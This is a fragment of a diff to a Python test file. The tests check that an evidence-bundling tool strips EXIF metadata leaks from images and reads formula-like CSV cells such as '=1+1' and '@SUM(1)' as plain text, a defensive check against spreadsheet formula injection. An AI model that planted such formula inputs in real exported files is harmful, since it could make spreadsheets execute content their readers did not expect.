+    for marker in (b"SN-98765-LEAK", b"LeakCam", b"Exif\x00\x00", RESIDENT.encode()):
+        assert marker not in bundle, marker
+    copy = hostile_build.exhibit("supervision/2026-03-07 i2.jpg")["path"]
+    assert b"SN-98765-LEAK" in (hostile_build.cqc.out / copy).read_bytes()
 
 
 def test_I3_svg_is_not_read(case):
@@ -679,7 +1105,7 @@ def test_C4_bom_cp1252_nul(case):
 
 
 def test_C5_formula_like_cells_are_read_as_text(case):
-    """Neutralising them in CSV/XLSX outputs is the writers' half of the row ({PACKS})."""
+    """Neutralising them in CSV/XLSX outputs is the writers' half of the row (issue 5 build half)."""
     plan, evidence = case
     write(evidence / "x.csv", 'a\n=1+1\n+1\n-1\n@SUM(1)\n"\t=1"\n＝1\n')
     found = item(evidence, "x.csv")
